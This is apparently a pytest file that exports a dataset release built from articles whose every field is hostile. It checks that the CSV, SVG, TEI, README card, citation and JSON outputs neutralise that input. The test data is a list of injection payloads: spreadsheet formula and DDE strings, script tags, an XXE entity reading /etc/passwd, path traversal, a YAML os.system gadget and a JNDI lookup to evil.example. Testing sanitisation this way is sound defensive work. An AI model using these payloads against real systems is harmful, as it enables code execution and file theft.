"""A release of a store in which every name, address and text is hostile."""

from __future__ import annotations

import csv
import json
import re
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
import yaml
from lxml import etree
from sqlalchemy import URL

from storage.database.engine import open_database
from storage.database.types import make_storable
from storage.export.formats import FORMAT_NAMES
from storage.export.release import ReleaseOptions, export_release
from storage.export.selection.selection import Selection

HOSTILE = (
    '=HYPERLINK("https://evil.example/","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0\n+1;=2\t-3",
    "</title><script>alert(1)</script><img src=x onerror=alert(1)>",
    "]]></text></svg><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;<?php x ?>",
    "../../../x\\..\\y",
    "C:\\x\x00/etc/passwd",
    "---\n- !!python/object/apply:os.system ['x']\n&a *a {{ x }} {% y %}",
    "|x|\n# [y](javascript:z) ![i](https://evil.example/pixel.png) `\u202e\u2066\u200b",
    "\ufeff\x1b[31m\x85\u2028\u2029\r\n\ufffe",
    "${jndi:ldap://evil.example}%s%n{0}{title!r}",
)

TEXTS = (
    *("url", "canonical_url", "site_name", "title", "description", "image", "licence", "section", "tdm_policy"),
    *("published_raw", "text"),
)


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory, give_articles: Any) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    engine = open_database(URL.create("sqlite", database=str(folder / "store.db")))
    fetched = datetime(2026, 11, 20, 8, tzinfo=UTC)
    give_articles(
        engine,
        [
            {
                "id": f"{number:016x}",
                **{
                    name: make_storable(said) for name in ("site", "cleaner_version")
                },  # which are ours and come in as they are
                **dict.fromkeys(TEXTS, said),
                **{name: [said, said] for name in ("authors", "tags", "robots", "usage", "ai_refused")},
                "page_kind": "news",
                "tdm_reserved": True,
                "published_at": fetched,
            }
            for number, said in enumerate(HOSTILE)
        ],
    )
    give_articles(engine, [{"id": "f" * 16, "rejected": HOSTILE[2], "site": HOSTILE[7]}])
    export_release(
        engine,
        folder / "out/release",
        Selection(),
        ReleaseOptions(formats=FORMAT_NAMES),
        progress=lambda _done, _total: None,
    )
    engine.dispose()
    return folder / "out/release"


class Tags(HTMLParser):
    """Collects the tags that a browser would see in a text."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append(tag)


def markdown(text: str) -> str:
    return text.split("---\n", 2)[2].partition("## Reading it")[0]


def test_no_file_is_outside_the_folder_and_every_name_is_ours(released: Path) -> None:
    assert [path.name for path in released.parent.iterdir()] == ["release"]
    names = {str(path.relative_to(released)) for path in released.rglob("*") if path.is_file()}
    assert all(re.fullmatch(r"[A-Za-z]+(/[a-z]+)?(\.[a-z]+)+", name) for name in names)
    with ZipFile(released / "data/articles.txt.zip") as archive:
        assert all(re.fullmatch(r"[0-9a-f]{16}\.txt", name) for name in archive.namelist())


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula(released: Path, separator: str) -> None:
    csv.field_size_limit(1 << 24)
    with (released / "data/articles.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=separator) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if re.match(r'[\s"]*[=+\-@]', cell)]


@pytest.mark.parametrize("name", ["months", "sites", "languages", "words"])
def test_plots_hold_shapes_and_text_alone(released: Path, name: str) -> None:
    content = (released / f"plots/{name}.svg").read_bytes()
    assert b"<!" not in content
    drawing = etree.fromstring(content)
    assert {etree.QName(one).localname for one in drawing.iter()} == {"svg", "title", "rect", "text"}
    allowed = {"width", "height", "viewBox", "role", "fill", "x", "y", "text-anchor"}
    assert {key for one in drawing.iter() for key in one.keys()} <= allowed | {  # noqa: SIM118 (lxml's elements are no dicts)
        "font-family",
        "font-size",
        "font-weight",
    }


def test_tei_holds_no_element_that_is_not_ours(released: Path) -> None:
    content = (released / "data/articles.tei.xml").read_bytes()
    assert b"<!" not in content
    assert content.count(b"<?") == 1
    tags = {etree.QName(one).localname for one in etree.fromstring(content).iter()}
    assert tags.isdisjoint({"script", "img", "svg"})
    assert "TEI" in tags


def test_the_head_of_the_card_is_yaml_with_only_our_keys(released: Path) -> None:
    card = (released / "README.md").read_text(encoding="utf-8")
    head = yaml.safe_load(card.split("---\n")[1])
    assert head["license"] == "other"
    assert head["size_categories"] == ["n<1K"]
    assert head["language"] == ["en"]
    assert {config["config_name"] for config in head["configs"]} == {"default"}
    assert not any(word in card.split("---\n")[1] for word in ("evil", "<script", "python/object", ".."))


def test_the_card_shows_names_as_text(released: Path) -> None:
    text = markdown((released / "README.md").read_text(encoding="utf-8"))
    tags = Tags()
    tags.feed(text)
    assert tags.seen == []
    assert re.findall(r"(?<!\\)!\[[^\]]*\]\(([^)]*)\)", text) == [
        f"plots/{name}.svg" for name in ("months", "sites", "languages", "words")
    ]
    assert not re.search(r"(?<![\\!])\[[^\]]*[^\\]\]\(", text.replace("![", "!["))
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]", text)


@pytest.mark.parametrize("name", ["croissant.json", "manifest.json"])
def test_json_files_have_no_foreign_key_or_address(released: Path, name: str) -> None:
    content = json.loads((released / name).read_text(encoding="utf-8"))
    for file in content.get("distribution", []):
        assert file["contentUrl"].startswith("data/articles.")
    for file in content.get("files", []):
        assert re.fullmatch(r"[A-Za-z]+(/[a-z]+)?(\.[a-z]+)+", file["path"])


def test_the_citation_is_yaml_with_only_our_keys(released: Path) -> None:
    text = (released / "CITATION.cff").read_text(encoding="utf-8")
    assert yaml.safe_load(text)["type"] == "dataset"
    assert "evil" not in text


@pytest.mark.parametrize("name", ["jsonl", "urls.jsonl"])
def test_every_line_is_one_record(released: Path, name: str) -> None:
    content = (released / f"data/articles.{name}").read_text(encoding="utf-8")
    assert len(content.splitlines()) == len(HOSTILE)
    for line in content.splitlines():
        assert json.loads(line)["id"]
